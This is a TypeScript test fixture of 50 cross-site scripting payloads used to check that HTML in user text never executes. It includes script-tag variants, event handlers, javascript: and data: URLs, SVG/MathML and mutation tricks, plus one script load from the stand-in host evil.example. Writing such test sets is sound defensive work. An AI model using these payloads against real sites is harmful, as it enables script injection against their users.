/**
 * 50 XSS payloads for text that people type or import (SPEC: "HTML in user text never executed").
 * Each one, if it ever ran, would set the global canary `window.__xss` (directly, or through
 * `alert`, which the tests replace with a function that sets it). Shared by the jsdom component
 * tests and the browser tests.
 */
export interface XssPayload {
  name: string;
  html: string;
}

const SET = 'window.__xss=1';

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // Script tags in several spellings
  { name: 'script tag', html: `<script>${SET}</script>` },
  { name: 'SCRIPT in capitals', html: `<SCRIPT>${SET}</SCRIPT>` },
  { name: 'ScRiPt in mixed case', html: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'script with a type', html: `<script type="text/javascript">${SET}</script>` },
  { name: 'script with a data: src', html: `<script src="data:text/javascript,${SET}"></script>` },
  { name: 'script with a slash before src', html: '<script/src="https://evil.example/x.js"></script>' },
  { name: 'nested angle brackets around script', html: `<<script>${SET}//<</script>` },
  { name: 'script after a broken attribute', html: `<img """><script>${SET}</script>">` },
  // Event handlers
  { name: 'img onerror', html: `<img src=x onerror="${SET}">` },
  { name: 'IMG OnErRoR in mixed case', html: '<IMG SRC=x OnErRoR=alert(1)>' },
  { name: 'svg onload', html: `<svg onload="${SET}">` },
  { name: 'body onload', html: `<body onload="${SET}">` },
  { name: 'details ontoggle', html: `<details open ontoggle="${SET}"><summary>s</summary></details>` },
  { name: 'video source onerror', html: `<video><source onerror="${SET}"></video>` },
  { name: 'video onerror', html: '<video src=x onerror="alert(1)"></video>' },
  { name: 'audio onerror', html: '<audio src=x onerror=alert(1)>' },
  { name: 'input autofocus onfocus', html: `<input autofocus onfocus="${SET}">` },
  { name: 'onclick on an allowed paragraph', html: `<p onclick="${SET}">click me</p>` },
  { name: 'onmouseover on an allowed link', html: `<a href="https://example.org" onmouseover="${SET}">hover</a>` },
  { name: 'unknown element with a handler', html: `<xss onmouseover="${SET}" tabindex="1">hover</xss>` },
  // javascript:, data: and vbscript: URLs
  { name: 'javascript: link', html: `<a href="javascript:${SET}">click</a>` },
  { name: 'JaVaScRiPt: link', html: '<a href="JaVaScRiPt:alert(1)">click</a>' },
  { name: 'entity-encoded colon javascript&#58;', html: '<a href="javascript&#58;alert(1)">click</a>' },
  { name: 'fully entity-encoded javascript:', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>' },
  { name: 'hex entities with a tab inside javascript:', html: '<a href="jav&#x09;ascript:alert(1)">click</a>' },
  { name: 'leading control characters before javascript:', html: '<a href=" &#14;  javascript:alert(1)">click</a>' },
  { name: 'data:text/html link', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>' },
  { name: 'data:text/html with inline script', html: `<a href="data:text/html,<script>${SET}</script>">click</a>` },
  { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">click</a>' },
  { name: 'javascript: in a table background', html: '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>' },
  // SVG and MathML
  { name: 'svg script', html: `<svg><script>${SET}</script></svg>` },
  { name: 'svg animate onbegin', html: `<svg><animate onbegin="${SET}" attributeName="x" dur="1s"/></svg>` },
  { name: 'svg link to javascript:', html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>' },
  { name: 'math maction to javascript:', html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click</maction></math>' },
  { name: 'math href javascript:', html: '<math href="javascript:alert(1)">click</math>' },
  { name: 'math mglyph style mutation', html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">' },
  // Frames, objects, forms, document-level elements
  { name: 'iframe srcdoc', html: `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>` },
  { name: 'iframe javascript: src', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'object data javascript:', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed src javascript:', html: '<embed src="javascript:alert(1)">' },
  { name: 'form action javascript:', html: '<form action="javascript:alert(1)"><button>go</button></form>' },
  { name: 'button formaction javascript:', html: '<form><button formaction="javascript:alert(1)">go</button></form>' },
  { name: 'meta refresh to javascript:', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: 'base href', html: '<base href="javascript:alert(1)//"><a href="/x">x</a>' },
  // Styles
  { name: 'style url(javascript:)', html: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: 'style expression()', html: '<p style="width: expression(alert(1))">x</p>' },
  // Mutation XSS, templates, encodings, broken markup
  { name: 'noscript title mutation', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'template and svg foreignObject', html: `<template><img src=x onerror=alert(1)></template><svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.__xss=1&lt;/script&gt;"></iframe></foreignObject></svg>` },
  { name: 'double-encoded entities and null bytes', html: '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;<a href="&amp;#106;avascript:alert(1)">x</a><scr\u0000ipt>alert(1)</scr\u0000ipt><a href="java\u0000script:alert(1)">y</a>' },
  { name: 'unclosed tags', html: '<img src=x onerror=alert(1)//<a href="javascript:alert(1)' }
];
